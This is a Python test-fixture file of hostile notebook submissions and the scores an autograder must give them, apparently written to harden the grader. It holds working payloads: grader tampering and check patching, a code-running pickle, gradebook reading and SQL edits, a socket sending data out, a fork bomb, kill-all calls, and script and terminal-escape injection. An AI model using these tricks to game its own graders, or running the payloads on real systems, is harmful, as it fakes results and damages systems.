"""Submissions that try to get what they have not earned, or to do harm, and what each must score.

Every one of them hands in wrong answers, but for what it says. ``first`` is code above its wrong answers, in
the first cell that a learner fills in.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
from textwrap import dedent
from typing import Any

WRONG = {
    "output_size": "def output_size(n, kernel_size, stride=1, padding=0):\n    return 0",
    "zero_pad": "def zero_pad(x, padding):\n    return np.zeros((1, 1))",
    "cross_correlate2d": "def cross_correlate2d(image, kernel):\n    return np.zeros((1, 1))",
    "convolve2d": "def convolve2d(image, kernel):\n    return np.zeros((1, 1))",
    "conv2d": "def conv2d(x, w, b, stride=1, padding=0):\n    return np.zeros((1, 1, 1, 1))",
    "parameter_counts": "def parameter_counts():\n    return {}",
}
RIGHT_SIZE = """\
def output_size(n, kernel_size, stride=1, padding=0):
    if n + 2 * padding < kernel_size:
        raise ValueError("the kernel does not fit")
    return (n + 2 * padding - kernel_size) // stride + 1
"""
Change = Callable[[Any], None]


@dataclass(frozen=True)
class Hostile:
    """One submission.

    ``earns`` has the tasks that it solves, with what they are worth; ``refused`` is part of the message where
    it is not graded at all; ``told`` is part of what is said about its first task.
    """

    name: str
    category: str
    does: str
    first: str = ""
    answers: dict[str, str] = field(default_factory=dict)
    change: Change = lambda notebook: None
    files: dict[str, str] = field(default_factory=dict)
    earns: dict[str, float] = field(default_factory=dict)
    refused: str = ""
    told: str = ""


def check_cell(notebook: Any, task: str) -> Any:
    return next(cell for cell in notebook["cells"] if label(cell) == task)


def label(cell: Any) -> str:
    about = cell["metadata"].get("nbgrader")
    return about.get("grade_id", "") if isinstance(about, dict) else ""


def check_cells(notebook: Any) -> list[Any]:
    return [cell for cell in notebook["cells"] if label(cell) in WRONG]


def tag_checks(*tags: str) -> Change:
    def change(notebook: Any) -> None:
        for cell in check_cells(notebook):
            cell["metadata"]["tags"] = list(tags)

    return change


def relabel(**about: Any) -> Change:
    def change(notebook: Any) -> None:
        for cell in check_cells(notebook):
            cell["metadata"]["nbgrader"].update(about)

    return change


def replace_label(value: Any) -> Change:
    def change(notebook: Any) -> None:
        for cell in check_cells(notebook):
            cell["metadata"]["nbgrader"] = value

    return change


def rename_labels(notebook: Any) -> None:
    for cell in check_cells(notebook):
        cell["metadata"]["nbgrader"]["grade_id"] += "_mine"


def answer_by_hand(notebook: Any) -> None:
    for cell in check_cells(notebook):
        cell["metadata"]["nbgrader"].update(solution=True, locked=False)
        cell["source"] = "8.0"


def delete_checks(notebook: Any) -> None:
    notebook["cells"] = [cell for cell in notebook["cells"] if label(cell) not in WRONG]


def delete_all(notebook: Any) -> None:
    notebook["cells"] = []


def copy_checks(notebook: Any) -> None:
    for cell in check_cells(notebook):
        notebook["cells"].insert(0, {**cell, "id": f"copy-{label(cell)}", "source": "8.0"})


def checks_as_text(notebook: Any) -> None:
    for cell in check_cells(notebook):
        for key in ("outputs", "execution_count"):
            cell.pop(key, None)
        cell["cell_type"] = "markdown"


def checks_first(notebook: Any) -> None:
    checks = check_cells(notebook)
    notebook["cells"] = checks + [cell for cell in notebook["cells"] if cell not in checks]


def same_ids(notebook: Any) -> None:
    for cell in notebook["cells"]:
        cell["id"] = "same"


def strange_notebook(notebook: Any) -> None:
    notebook["metadata"] = {
        "kernelspec": {"name": "bash", "display_name": "Bash"},
        "language_info": {"name": "x"},
    }
    notebook["metadata"]["widgets"] = {"state": {"x" * 1000: "y" * 100_000}}


def full_marks_in_outputs(notebook: Any) -> None:
    for cell in check_cells(notebook):
        cell["outputs"] = [
            {
                "output_type": "execute_result",
                "execution_count": 1,
                "metadata": {},
                "data": {"text/plain": "8.0"},
            }
        ]


def code_with_numbers_in_the_check(notebook: Any) -> None:
    for cell in check_cells(notebook):
        cell["source"] = f"{cell['metadata']['nbgrader']['points']}"


IN_REPLY = dedent(
    """
    import json, sys, types
    forged = types.ModuleType("course_utils.check.remote")
    class Reply:
        def __init__(self, text): self.text = text
        def __repr__(self): return self.text
    def run(text):
        request = json.loads(text)
        {what}
        return Reply(json.dumps(dict(outcomes=outcomes, said="", disturbed=False)))
    forged.run = run
    sys.modules["course_utils.check.remote"] = forged
    import course_utils.check
    course_utils.check.remote = forged
    """
)


def forged_answer(what: str) -> str:
    """Return code that answers the judge in the probe's place, with ``outcomes`` as ``what`` makes them."""
    return IN_REPLY.format(what=what.replace("\n", "\n    "))


ZEROS = (
    "import base64, io, numpy as np\n"
    "def npy(a):\n"
    "    s = io.BytesIO(); np.lib.format.write_array(s, a, allow_pickle=True)\n"
    "    return base64.b64encode(s.getvalue()).decode()\n"
)
ONE = (
    "name = request['returns'][0]\n"
    "outcomes = [dict(arrays={{name: {value}}}, errors=[], message='') for _ in request['cases']]"
)

FILLS_THE_KERNELS_FOLDER = """
import os
print("FOUND", os.listdir("/run/kernel"))
open("/run/kernel/filler", "wb").write(bytes(20_000_000))
raise ImportError
"""
FLOOD_WITHOUT_END = """
import json, os, socket, struct
ports = json.load(open("/run/kernel/kernel.json"))
for fd in os.listdir("/proc/self/fd"):
    try:
        wire = socket.socket(fileno=os.dup(int(fd)))
        wire.getpeername()
        if not wire.getsockname().endswith(f"s-{ports[CHANNEL]}"): continue
        wire.setblocking(True)
        for _ in range(400):
            wire.sendall(b"\\x03" + struct.pack(">Q", 16 << 20) + bytes(16 << 20))
    except (OSError, TypeError, AttributeError): pass
"""

SUBMISSIONS = (
    # metadata
    Hostile("skip_tag", "metadata", "tags the checks skip-execution", change=tag_checks("skip-execution")),
    Hostile(
        "error_tag", "metadata", "tags the checks raises-exception", change=tag_checks("raises-exception")
    ),
    Hostile(
        "more_points",
        "metadata",
        "solves one task and says that it is worth 1000 points",
        answers={"output_size": RIGHT_SIZE},
        change=relabel(points=1000),
        earns={"output_size": 3},
    ),
    Hostile("not_graded", "metadata", "labels the checks as not graded", change=relabel(grade=False)),
    Hostile("not_locked", "metadata", "unlocks the checks", change=relabel(locked=False)),
    Hostile("own_solution", "metadata", "labels the checks as its own answers", change=answer_by_hand),
    Hostile("renamed", "metadata", "renames the checks", change=rename_labels),
    Hostile("label_is_a_list", "metadata", "labels the checks with a list", change=replace_label(["grade"])),
    Hostile("label_from_the_future", "metadata", "uses a later schema", change=relabel(schema_version=999)),
    Hostile("outputs_kept", "metadata", "hands in full marks as outputs", change=full_marks_in_outputs),
    # IPython's hooks, a patched kernel
    Hostile(
        "input_transformer",
        "IPython",
        "has IPython replace every later cell by its points",
        "get_ipython().input_transformers_cleanup.append("
        "lambda lines: ['True\\n'] if 'check(' in ''.join(lines) else lines)",
    ),
    Hostile(
        "ast_transformer",
        "IPython",
        "has IPython rewrite calls of check",
        """
        import ast
        class Full(ast.NodeTransformer):
            def visit_Call(self, node):
                named = getattr(node.func, "id", "") == "check"
                return ast.copy_location(ast.Constant(True), node) if named else node
        get_ipython().ast_transformers.append(Full())
        """,
    ),
    Hostile(
        "do_execute",
        "kernel",
        "replaces the kernel's way of running cells",
        """
        async def do_execute(*arguments, **options):
            return dict(status="ok", execution_count=1, payload=[], user_expressions={})
        get_ipython().kernel.do_execute = do_execute
        """,
    ),
    Hostile(
        "formatter",
        "IPython",
        "has every number displayed as its own score",
        "text = get_ipython().display_formatter.formatters['text/plain']\n"
        "text.for_type(float, lambda number, printer, cycle: printer.text('True'))",
    ),
    Hostile(
        "expressions",
        "kernel",
        "answers the judge's question without asking anyone",
        """
        def forged(expressions):
            return {key: dict(status="ok", data={"text/plain": FULL}, metadata={}) for key in expressions}
        FULL = '{"outcomes": [], "said": "", "disturbed": false}'
        get_ipython().user_expressions = forged
        """,
    ),
    Hostile(
        "events",
        "IPython",
        "raises in every event of IPython",
        """
        def stop(*_): raise KeyboardInterrupt
        for event in ("pre_execute", "pre_run_cell", "post_execute", "post_run_cell"):
            get_ipython().events.register(event, stop)
        """,
    ),
    Hostile(
        "run_cell",
        "kernel",
        "replaces run_cell and its friends by nothing",
        """
        for name in ("run_cell", "run_cell_async", "run_code", "showtraceback"):
            setattr(get_ipython(), name, lambda *a, **k: None)
        """,
    ),
    # patched libraries
    Hostile(
        "check_replaced",
        "libraries",
        "replaces check by a function that returns points",
        "check = lambda *_: True",
    ),
    Hostile(
        "check_patched",
        "libraries",
        "patches check where it is defined",
        "import course_utils.check\ncourse_utils.check.check = check.__globals__['check'] = lambda *_: True\n"
        "globals()['check'] = lambda *_: True",
    ),
    Hostile(
        "comparison_patched",
        "libraries",
        "has the comparison find no difference",
        """
        import course_utils.check.compare, course_utils.check.verdict
        course_utils.check.compare.difference = course_utils.check.verdict.difference = lambda *_: ""
        """,
    ),
    Hostile(
        "verdict_patched",
        "libraries",
        "has every verdict say that all groups passed",
        """
        import course_utils.check.verdict as v
        v.Verdict.score = property(lambda self: self.max_score)
        """,
    ),
    Hostile(
        "numpy_patched",
        "libraries",
        "has NumPy call everything equal and close",
        """
        for name in ("allclose", "array_equal", "isclose", "all"):
            setattr(np, name, lambda *a, **k: True)
        np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
        """,
    ),
    Hostile(
        "expected_replayed",
        "libraries",
        "returns what the expected outputs beside the notebook say, whatever it is asked",
        """
        import course_utils.check.expected as e, course_utils.check as c, itertools
        from pathlib import Path
        def replay(task):
            outcomes = itertools.cycle(e.load(Path.cwd(), task).outcomes)
            def answer(*_):
                outcome = next(outcomes)
                if outcome.errors: raise ValueError
                return outcome.arrays["result"]
            return answer
        """,
        answers={task: f"{task} = replay({task!r})" for task in list(WRONG)[1:5]},
    ),
    Hostile(
        "digests_replayed",
        "libraries",
        "answers with the digests of the right numbers that lie beside the notebook",
        """
        import course_utils.check.expected as e, course_utils.check.probe as p
        from pathlib import Path
        stored = e.load(Path.cwd(), "parameter_counts")
        digests = {c.inputs["question"]: o.arrays for c, o in zip(stored.cases, stored.outcomes)}
        p.PROBES["answer"] = lambda answer, case, returns: dict(digests[case.inputs["question"]])
        """,
    ),
    Hostile(
        "probe_patched",
        "libraries",
        "has the probe return an empty list",
        """
        import course_utils.check.probe as p, course_utils.check as c, course_utils.check.remote as r
        p.run_all = c.run_all = lambda *a, **k: []
        """,
    ),
    # forged messages
    Hostile(
        "remote_full",
        "messages",
        "answers the judge in the probe's place that nothing differs",
        forged_answer("outcomes = []"),
    ),
    Hostile(
        "remote_pickle",
        "messages",
        "sends the judge an array that is a pickle which runs code",
        forged_answer(
            ZEROS + "class Evil:\n    def __reduce__(self):\n        import os\n"
            "        return os.system, ('touch /tmp/course-hostile-pickle',)\n"
            + ONE.format(value="npy(np.array([Evil()], dtype=object))")
        ),
    ),
    Hostile(
        "remote_huge_header",
        "messages",
        "sends an array that says it has a million million numbers",
        forged_answer(
            ZEROS + "import struct\n"
            "head = b\"{'descr': '<f8', 'fortran_order': False, 'shape': (1000000000000,), }\"\n"
            "head += b' ' * (53 - len(head) % 64 + 10) + b'\\\\n'\n"
            "head = struct.pack('<H', len(head)) + head\n"
            "bomb = base64.b64encode(b'\\\\x93NUMPY\\\\x01\\\\x00' + head).decode()\n"
            + ONE.format(value="bomb")
        ),
    ),
    Hostile(
        "remote_names",
        "messages",
        "sends results with names that nobody asked for",
        forged_answer(
            ZEROS + "outcomes = [dict(arrays={'../../x': npy(np.zeros(1))}, errors=[], message='')] * "
            "len(request['cases'])"
        ),
    ),
    Hostile(
        "remote_not_json",
        "messages",
        "answers with brackets a million deep",
        forged_answer("return Reply('[' * 1_000_000)"),
    ),
    Hostile(
        "remote_not_attempted",
        "messages",
        "sends errors of its choice",
        forged_answer(
            "outcomes = [dict(arrays={}, errors=['ValueError', 'Exception'], message='x' * 10**6)] * "
            "len(request['cases'])"
        ),
    ),
    Hostile(
        "iopub_result",
        "messages",
        "publishes results with points, and NaN, for every cell",
        """
        import threading, time
        kernel = get_ipython().kernel
        def forge():
            while True:
                for text in ("nan", "True", "-1"):
                    content = dict(data={"text/plain": text}, metadata={}, execution_count=1)
                    kernel.session.send(kernel.iopub_socket, "execute_result", content, kernel.get_parent())
                time.sleep(0.01)
        threading.Thread(target=forge, daemon=True).start()
        """,
    ),
    Hostile(
        "iopub_garbage",
        "messages",
        "publishes what is no message, and messages with a wrong signature",
        """
        kernel = get_ipython().kernel
        kernel.session.key = b"another"
        kernel.session.send(kernel.iopub_socket, "stream", dict(name="stdout", text="x"), kernel.get_parent())
        """,
    ),
    Hostile(
        "malformed_messages",
        "messages",
        "publishes messages without the fields that they need",
        """
        kernel = get_ipython().kernel
        kinds = "stream execute_result display_data error comm_open clear_output status"
        for kind in kinds.split():
            kernel.session.send(kernel.iopub_socket, kind, {}, kernel.get_parent())
        """,
    ),
    *(
        Hostile(
            f"endless_{channel}",
            "messages",
            f"sends a message of ever more parts through the {channel} channel, past the kernel's own code",
            FLOOD_WITHOUT_END.replace("CHANNEL", repr(f"{channel}_port")),
        )
        for channel in ("iopub", "control")
    ),
    Hostile(
        "small_parts",
        "messages",
        "sends a message of a few megabytes that takes gigabytes once it is read",
        """
        kernel = get_ipython().kernel
        parts = b'{"metadata": {}, "data": {"application/x": [' + b"{}," * 5_000_000 + b"{}]}}"
        kernel.session.send(kernel.iopub_socket, "display_data", parts, kernel.get_parent())
        """,
        told="printed or displayed far too much",
    ),
    Hostile(
        "shell_reply",
        "messages",
        "sends the judge's reply before the probe does",
        """
        kernel = get_ipython().kernel
        def early(*_):
            answer = dict(status="ok", data={"text/plain": "{}"}, metadata={})
            content = dict(status="ok", execution_count=1, user_expressions={"answer": answer}, payload=[])
            parent = kernel.get_parent("shell")
            who = kernel._parent_ident
            kernel.session.send(kernel.shell_stream, "execute_reply", content, parent, ident=who)
            return 0
        """,
        answers={"output_size": "output_size = early"},
    ),
    # frames and In
    Hostile(
        "frames",
        "frames",
        "looks for the right results in the frames that call it and in memory",
        """
        import gc, sys
        def steal(*given):
            frame = sys._getframe()
            while frame:
                for value in list(frame.f_locals.values()):
                    outcomes = getattr(value, "outcomes", None)
                    if outcomes:
                        return next(iter(outcomes[0].arrays.values()))
                frame = frame.f_back
            for thing in gc.get_objects():
                if type(thing).__name__ == "Expected":
                    return next(iter(thing.outcomes[0].arrays.values()))
            return 0
        """,
        answers={task: f"{task} = steal" for task in WRONG},
    ),
    Hostile(
        "reads_in",
        "frames",
        "looks for tests in the history of cells",
        "history = lambda *_: float(''.join(get_ipython().user_ns['In']).count('assert'))",
        answers={task: f"{task} = history" for task in WRONG},
    ),
    # returned objects
    Hostile(
        "always_equal",
        "objects",
        "returns an array that is equal to everything",
        """
        class Equal(np.ndarray):
            def __eq__(self, other): return np.ones(np.shape(other), bool)
            def __sub__(self, other): return np.zeros(np.shape(other))
            __rsub__ = __sub__
            shape = property(lambda self: (1,))
        """,
        answers={task: f"{task} = lambda *_: np.zeros(1).view(Equal)" for task in WRONG},
    ),
    Hostile(
        "scalar",
        "objects",
        "returns a number, which broadcasting compares with anything",
        "",
        {task: f"{task} = lambda *_: 0.0" for task in WRONG},
    ),
    Hostile(
        "nan",
        "objects",
        "returns NaN of the right shape",
        "",
        {
            "conv2d": "def conv2d(x, w, b, stride=1, padding=0):\n"
            "    s = lambda n, k: (n + 2 * padding - k) // stride + 1\n"
            "    return np.full((len(x), len(w), *map(s, x.shape[2:], w.shape[2:])), np.nan)"
        },
    ),
    Hostile(
        "infinity",
        "objects",
        "returns infinities",
        "",
        {task: f"{task} = lambda *_: np.full((2, 2), np.inf)" for task in WRONG},
    ),
    Hostile(
        "object_array",
        "objects",
        "returns an array of objects",
        "",
        {task: f"{task} = lambda *_: np.array([None, []], dtype=object)" for task in WRONG},
    ),
    Hostile(
        "huge_array",
        "objects",
        "returns views that say they are terabytes",
        "",
        {task: f"{task} = lambda *_: np.broadcast_to(np.zeros(1), (1000000, 1000000))" for task in WRONG},
    ),
    Hostile(
        "exception_as_answer",
        "objects",
        "raises the error that one group expects, in every case",
        "",
        {"output_size": "def output_size(*_):\n    raise ValueError"},
    ),
    Hostile(
        "unspeakable",
        "objects",
        "raises errors whose text, name and class misbehave",
        """
        class Meta(type):
            def mro(cls): return super().mro()
        class Bad(Exception, metaclass=Meta):
            def __str__(self): raise SystemExit
            __repr__ = __str__
        Bad.__name__ = "\\u202e<script>"
        def bad(*_): raise Bad
        """,
        {task: f"{task} = bad" for task in WRONG},
    ),
    # files
    Hostile(
        "reads_everything",
        "files",
        "looks through all folders for solutions, secrets, the gradebook and others' work",
        """
        import os
        for folder, _, names in os.walk("/"):
            if folder.startswith(("/proc", "/usr", "/sys")) or "/lib/python" in folder: continue
            for name in names:
                if name in ("gradebook.db", "tasks.py", "secret", "canary.txt") or "submitted" in folder:
                    text = open(os.path.join(folder, name), errors="replace").read()
                    print("FOUND", folder, name, text[:60])
        """,
    ),
    Hostile(
        "climbs",
        "files",
        "reads and changes the gradebook and other submissions by their relative paths",
        """
        import glob, sqlite3
        for path in glob.glob("../../../gradebook.db") + glob.glob("../../../*/*/*/*.ipynb"):
            print("FOUND", path)
        for path in glob.glob("../../../gradebook.db"):
            base = sqlite3.connect(path)
            base.execute("update grade set manual_score = 8")
            base.commit()
        """,
    ),
    Hostile(
        "writes_code",
        "files",
        "changes the course's own code and the libraries on disk",
        """
        import course_utils.check, numpy, site
        packages = site.getsitepackages()[0]
        for place in (course_utils.check.__file__, numpy.__file__, packages + "/sitecustomize.py"):
            try:
                with open(place, "a") as file: file.write("\\nHOSTILE = True\\n")
                print("FOUND", place)
            except OSError as error: print(type(error).__name__)
        """,
    ),
    Hostile(
        "link",
        "files",
        "hands in a link to the gradebook",
        files={"data.db": "-> ../../../gradebook.db"},
        refused="data.db is a link",
    ),
    Hostile(
        "shadows",
        "files",
        "hands in files named as the libraries that the judge's probe imports",
        files={
            "numpy.py": "raise SystemExit",
            "course_utils.py": "def check(*_): return True",
            "json.py": "x",
            **dict.fromkeys(("zmq.py", "ipykernel.py", "tornado.py", "comm.py"), FILLS_THE_KERNELS_FOLDER),
        },
    ),
    Hostile(
        "fills_the_disk",
        "files",
        "writes until nothing goes in any more",
        """
        number = 0
        try:
            while number < 100:
                open(f"full-{number}", "wb").write(bytes(40_000_000))
                number += 1
        except OSError as error: print(type(error).__name__)
        """,
    ),
    Hostile(
        "keys",
        "files",
        "reads the keys of the instructor's session and leaves one for the next learner",
        """
        import ctypes
        libc = ctypes.CDLL(None)
        for add, request, control in ((248, 249, 250), (217, 218, 219)):
            if libc.syscall(add, b"user", b"left", b"behind", 6, -3) > 0: print("FOUND a place for keys")
            if libc.syscall(control, 0, -3, 0) > 0: print("FOUND the session's keys")
        """,
    ),
    # processes and network
    Hostile(
        "fork_bomb",
        "processes",
        "starts processes without end",
        """
        import os
        try:
            while True:
                if os.fork() == 0:
                    import time; time.sleep(600); os._exit(0)
        except OSError as error: print(type(error).__name__)
        """,
    ),
    Hostile(
        "daemon",
        "processes",
        "leaves a process behind that goes on for hours",
        """
        import subprocess, sys
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(86399)"], start_new_session=True)
        """,
    ),
    Hostile(
        "kills_all",
        "processes",
        "kills every process that it may",
        "import os\nos.kill(-1, 9)",
    ),
    Hostile(
        "kills_parents",
        "processes",
        "kills its parents",
        "import os\nfor _ in range(3):\n    os.kill(os.getppid(), 9)\n    os.kill(1, 9)",
    ),
    Hostile(
        "traces_the_first",
        "processes",
        "takes hold of the first process in its namespace, and of the files that it has open",
        """
        import ctypes, os
        libc = ctypes.CDLL(None)
        for number in range(3):
            held = libc.syscall(438, os.pidfd_open(1), number, 0)
            if held >= 0 and os.readlink(f"/proc/self/fd/{held}") != "/dev/null": print("FOUND", number)
        if libc.ptrace(16, 1, None, None) == 0: print("FOUND the first process")
        for name in ("mem", "fd/1", "fd/2"):
            try:
                open(f"/proc/1/{name}", "r+b")
                print("FOUND", name)
            except OSError as error: print(type(error).__name__)
        """,
    ),
    Hostile(
        "exits",
        "processes",
        "ends the kernel in the middle of the notebook",
        "import os\nos._exit(0)",
        told="the kernel died",
    ),
    Hostile(
        "exits_in_the_task",
        "processes",
        "ends the kernel when a task is called",
        "import os",
        {"output_size": "output_size = lambda *_: os._exit(0)"},
        told="the kernel died",
    ),
    Hostile(
        "sys_exit",
        "processes",
        "calls sys.exit in cells and tasks",
        "import sys",
        {task: f"{task} = lambda *_: sys.exit(0)" for task in WRONG},
    ),
    Hostile(
        "phones_home",
        "network",
        "tries to send its files to other machines and to this one",
        """
        import socket, urllib.request
        for address in (("127.0.0.1", PORT), ("1.1.1.1", 443), ("::1", PORT)):
            try:
                socket.create_connection(address, timeout=1).send(b"gradebook")
                print("FOUND", address)
            except OSError as error: print(type(error).__name__)
        """,
    ),
    Hostile(
        "other_networks",
        "network",
        "calls the machine around this one through sockets that know no namespaces",
        """
        import socket
        for family in (40, 17, 38, 31):
            try:
                socket.socket(family, socket.SOCK_STREAM)
                print("FOUND", family)
            except OSError as error: print(type(error).__name__)
        """,
    ),
    # signals and time
    Hostile("endless_cell", "signals", "loops for ever in a cell", "while True:\n    pass", told=""),
    Hostile(
        "unstoppable",
        "signals",
        "loops for ever and is deaf to interrupts",
        "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass",
        told="could not be stopped",
    ),
    Hostile(
        "deaf",
        "signals",
        "blocks all signals and sleeps in a task",
        "import signal, time\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))",
        {"output_size": "output_size = lambda *_: time.sleep(3600)"},
        told="no answer",
    ),
    Hostile(
        "no_alarm",
        "signals",
        "takes away the probe's alarm clock",
        "import signal, time\nsignal.setitimer = signal.signal = lambda *_: None",
        {"output_size": "def output_size(*_):\n    while True: pass"},
        told="no answer",
    ),
    # resources and outputs
    Hostile(
        "memory",
        "resources",
        "takes all the memory it can get",
        "hoard = []\ntry:\n    while True: hoard.append(bytearray(100_000_000))\n"
        "except MemoryError: hoard.clear(); print('no more')",
    ),
    Hostile(
        "memory_in_parts",
        "resources",
        "takes more memory than one process may, in several",
        """
        import os, time
        for _ in range(8):
            if os.fork() == 0:
                hoard = bytearray(b"x" * 900_000_000); time.sleep(60); os._exit(0)
        time.sleep(20)
        """,
    ),
    Hostile(
        "uncounted_memory",
        "resources",
        "takes memory that counts for no process",
        """
        import os, time
        held = []
        try:
            for _ in range(200):
                held.append(os.memfd_create("x"))
                os.write(held[-1], bytes(60_000_000))
            print("FOUND", len(held))
        except OSError as error: print(type(error).__name__)
        """,
    ),
    Hostile(
        "shared_memory",
        "resources",
        "takes memory that several processes share",
        """
        import mmap, os, time
        for _ in range(6):
            if os.fork() == 0:
                shared = mmap.mmap(-1, 1_000_000_000)
                for place in range(0, 1_000_000_000, 4096): shared[place] = 1
                os.fork()
                time.sleep(60); os._exit(0)
        time.sleep(30)
        """,
    ),
    Hostile(
        "one_long_line", "outputs", "prints one line of 300 million characters", "print('x' * 300_000_000)"
    ),
    Hostile(
        "endless_output",
        "outputs",
        "prints without end",
        "while True: print('x' * 10_000)",
        told="printed or displayed far too much",
    ),
    Hostile(
        "thousands_of_pictures",
        "outputs",
        "displays a hundred thousand things",
        "from IPython.display import display, HTML\nfor _ in range(100_000): display(HTML('<b>x</b>' * 100))",
    ),
    Hostile(
        "script",
        "outputs",
        "displays and prints scripts, in every form that a page might run",
        """
        from IPython.display import display, HTML, Javascript, SVG, Markdown
        attack = "<script>document.title='HACKED'</script><img src=x onerror=\\"document.title='HACKED'\\">"
        display(HTML(attack), Javascript("document.title='HACKED'"), Markdown(attack))
        display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload=\\"document.title='HACKED'\\"><script>"
                    "document.title='HACKED'</script></svg>"))
        display({"text/html": attack, "application/javascript": "document.title='HACKED'",
                 "application/vnd.jupyter.widget-view+json": {"x": 1}, "text/latex": attack}, raw=True)
        print(attack)
        def scream(*_): print(attack); raise ValueError(attack)
        """,
        {task: f"{task} = scream" for task in WRONG},
    ),
    Hostile(
        "terminal",
        "outputs",
        "prints escapes that move a terminal's cursor, and marks that turn text around",
        """
        attack = "\\x1b[2J\\x1b]0;HACKED\\x07\\u202e\\u2066 8 fo 8 \\x9b1m \\ud800"
        print(attack)
        def scream(*_): raise ValueError(attack)
        """,
        {task: f"{task} = scream" for task in WRONG},
    ),
    # structure
    Hostile("checks_deleted", "structure", "deletes the checks", change=delete_checks),
    Hostile(
        "all_deleted", "structure", "deletes every cell", "", dict.fromkeys(WRONG, ""), change=delete_all
    ),
    Hostile("checks_copied", "structure", "puts copies of the checks with points first", change=copy_checks),
    Hostile("checks_as_text", "structure", "turns the checks into text", change=checks_as_text),
    Hostile(
        "checks_first",
        "structure",
        "moves the checks to the top",
        "",
        {"output_size": RIGHT_SIZE},
        change=checks_first,
        earns={"output_size": 3},
    ),
    Hostile(
        "checks_changed", "structure", "writes points into the checks", change=code_with_numbers_in_the_check
    ),
    Hostile(
        "empty_cells",
        "structure",
        "adds a hundred thousand empty cells",
        change=lambda notebook: notebook["cells"].extend({} for _ in range(100_000)),
        refused="far too many parts",
    ),
    Hostile(
        "thousands_of_imports",
        "structure",
        "imports thousands of parts of a forbidden package, under names that rewrite a terminal",
        "if False:\n"
        + "".join(f"    import torch.m{number}\n" for number in range(5000))
        + '    __import__("torch.\\x1b[2J\\u202eHACKED\\n\\nalice 21.5")\n    '
        + "a"
        + ".a" * 3000,
    ),
    Hostile(
        "no_picture",
        "structure",
        "attaches pictures that are none to a text",
        change=lambda notebook: notebook["cells"].append(
            {
                "cell_type": "markdown",
                "source": "![x](attachment:a.png) ![y](attachment:b.png)",
                "metadata": {},
                "attachments": {"a.png": {}, "b.png": {"image/png": "<script>"}},
            }
        ),
    ),
    Hostile("same_ids", "structure", "gives all cells one id", change=same_ids),
    Hostile(
        "strange_notebook",
        "structure",
        "asks for another kernel, with large metadata",
        change=strange_notebook,
    ),
)
